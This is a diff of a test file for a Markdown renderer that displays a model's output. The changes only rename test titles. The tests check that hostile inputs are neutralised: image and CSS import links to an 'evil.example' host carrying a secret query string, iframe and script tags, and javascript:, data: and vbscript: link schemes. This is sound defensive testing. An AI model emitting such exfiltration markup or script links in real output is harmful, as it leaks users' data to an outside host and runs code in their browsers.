@@ -14,7 +14,7 @@ describe("a model's Markdown", () => {
     "<style>@import url(https://evil.example/?q=secret)</style>",
     '<iframe src="https://evil.example"></iframe><script>alert(1)</script>',
     "[![x](https://evil.example/?q=secret)](https://good.example)",
-  ])("makes no element that asks for something by itself: %s", (text) => {
+  ])("Markdown renders no element that loads by itself: %s", (text) => {
     expect(rendered(text)).not.toMatch(
       /<(img|picture|source|style|iframe|script|link|object|embed|video|audio|svg)\b/i,
     );
@@ -22,19 +22,19 @@ describe("a model's Markdown", () => {
   });
 
   it.each(["[x](javascript:alert(1))", "[x](data:text/html,<b>)", "[x](vbscript:x)", "<javascript:alert(1)>"])(
-    "makes no link that runs: %s",
+    "Markdown renders no link that runs code: %s",
     (text) => {
       expect(rendered(text)).not.toMatch(/href="(javascript|data|vbscript)/i);
     },
   );
 
-  it("opens a link beside the page, and tells nothing to where it goes", () => {
+  it("Markdown opens a link in a new tab, without a referrer", () => {
     expect(rendered("[x](https://good.example/a)")).toContain(
       '<a href="https://good.example/a" target="_blank" rel="noopener noreferrer nofollow">x</a>',
     );
   });
 
-  it("renders tables, tasks and code", () => {
+  it("Markdown renders tables, tasks and code", () => {
     const html = rendered("| a |\n|---|\n| `b` |\n\n- [x] done\n\n```ts\nconst a = 1 < 2;\n```");
     for (const part of ["<table>", "<code>b</code>", 'type="checkbox"', "1 &lt; 2"]) expect(html).toContain(part);
   });
